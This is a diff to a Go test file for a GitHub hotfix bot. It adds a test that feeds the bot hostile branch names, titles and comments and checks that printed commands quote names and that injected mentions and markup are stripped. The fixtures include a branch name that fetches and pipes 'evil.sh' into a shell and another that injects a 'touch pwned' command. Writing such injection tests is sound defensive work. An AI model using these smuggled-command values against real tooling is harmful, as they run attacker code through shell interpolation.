@@ -12,6 +12,7 @@ import (
 
 	"github.com/hotfix-bot/hotfix-bot/internal/ghsim"
 	"github.com/hotfix-bot/hotfix-bot/internal/harness"
+	"github.com/hotfix-bot/hotfix-bot/policy"
 )
 
 // Hostile input: each gets a clear refusal or is ignored, and nothing
@@ -342,4 +343,90 @@ func TestFloodOfDryRuns(t *testing.T) {
 		t.Errorf("the limited dry runs are not counted:\n%s", rec.Body.String())
 	}
 	w.noHandlerErrors()
+}
+
+// Names and texts someone else chose, through a whole story: a branch
+// name that runs a command, a release branch named like one, commit and
+// pull request titles, an emergency reason, command arguments and what
+// the CD system says, all mentioning a team and a person. Every command
+// the bot prints quotes the names, and nothing the bot writes mentions
+// anyone it was told to.
+func TestHostileNamesAndMentions(t *testing.T) {
+	w := start(t, harness.Options{})
+	r, in := w.in.Repo, w.in
+	const team, person = "acme/everyone", "victim"
+	must[string](t)(r.Push(in.Rob, "main", "Emergency list", ghsim.Files{".github/hotfix-bot.yml": "commands:\n  emergency:\n    users: [rob]\n"}))
+	must[string](t)(r.Push(in.Dana, "develop", "Ping @acme/everyone and @victim", ghsim.Files{"payments/ping.go": "package payments\n"}))
+	evil := "release/1.5;touch${IFS}pwned"
+	must[string](t)(r.CreateBranch(in.Dana, evil, "release/1.5"))
+	w.settle()
+
+	// A branch cut from develop with a name that runs a command.
+	branch := "hotfix/$(curl${IFS}evil.sh|sh)"
+	must[string](t)(r.CreateBranch(in.Dana, branch, "develop"))
+	bad := must[string](t)(r.Push(in.Dana, branch, "Fix", ghsim.Files{"payments/fix.go": "package payments\n"}))
+	w.settle()
+	w.expect(bad, policy.CheckBase, policy.Failure, "'"+branch+"'\n", "git switch -c '"+branch+"-2' v1.4.2", "Ping @\u200dacme/everyone")
+
+	n, _ := w.approvedHotfix("hotfix/payment-timeout")
+	noErr(t, r.EditPR(in.Dana, n, "Fix it @acme/everyone `@victim` <b>now</b>"))
+	w.settle()
+	usage := w.comment(in.Rob, n, "/promote --@acme/everyone")
+	w.reply(n, usage, "unknown option `--@acme/everyone`")
+	w.comment(in.Rob, n, "/rollback @victim")
+	w.comment(in.Rob, n, "/promote --emergency checkout is down, cc @acme/everyone and @victim")
+	d, _ := w.onlyDeployment()
+	noErr(t, r.SetDeploymentStatusWithLog(in.CD, d.ID, "failure", "ask @acme/everyone", "https://ci.example.com/x) @victim [y](z"))
+	w.settle()
+	ds := w.botDeployments()
+	w.report(ds[len(ds)-1].ID, "success") // the automatic rollback
+	w.comment(in.Rob, n, "/promote --emergency still down, @victim")
+	ds = w.botDeployments()
+	w.report(ds[len(ds)-1].ID, "success")
+	syncs := w.pullsInto(evil, "hotfix-bot/sync/")
+	if len(syncs) != 1 {
+		t.Fatalf("%d sync PRs into %s", len(syncs), evil)
+	}
+	if cs := w.botComments(syncs[0].Number, "git switch 'hotfix-bot/sync/v1.4.3-to-"+evil+"' && git merge 'origin/"+evil+"'"); len(cs) != 1 {
+		t.Errorf("the conflict instructions do not quote the names: %+v", w.botComments(syncs[0].Number, "git "))
+	}
+
+	// Everything the bot wrote: comments, issues, pull requests, checks.
+	var written []string
+	for _, is := range r.Issues() {
+		if is.User.Type == "Bot" {
+			written = append(written, is.Title+"\n"+is.Body)
+		}
+		for _, c := range r.Comments(is.Number) {
+			if c.User.Type == "Bot" {
+				written = append(written, c.Body)
+			}
+		}
+	}
+	for _, sha := range []string{bad, r.Branch("main"), r.TagCommit("v1.4.3"), syncs[0].PR.HeadSHA} {
+		for _, cr := range r.CheckRuns(sha) {
+			written = append(written, cr.Title+"\n"+cr.Summary)
+		}
+	}
+	if len(written) < 15 {
+		t.Fatalf("only %d texts written: the story did not run", len(written))
+	}
+	seen := map[string]bool{}
+	for _, text := range written {
+		for _, m := range ghsim.Mentions(text) {
+			seen[m] = true
+			if m == team || m == person {
+				t.Errorf("@%s is mentioned in:\n%s", m, text)
+			}
+		}
+		if strings.Contains(text, "[y](z") || strings.Contains(text, "<b>") {
+			t.Errorf("markup someone else wrote came through:\n%s", text)
+		}
+	}
+	if !seen["rob"] {
+		t.Errorf("the test found no mention at all (%v): the scan is broken", seen)
+	}
+	if len(w.incidentIssues()) != 1 {
+		t.Error("the story did not reach the incident issue")
+	}
 }
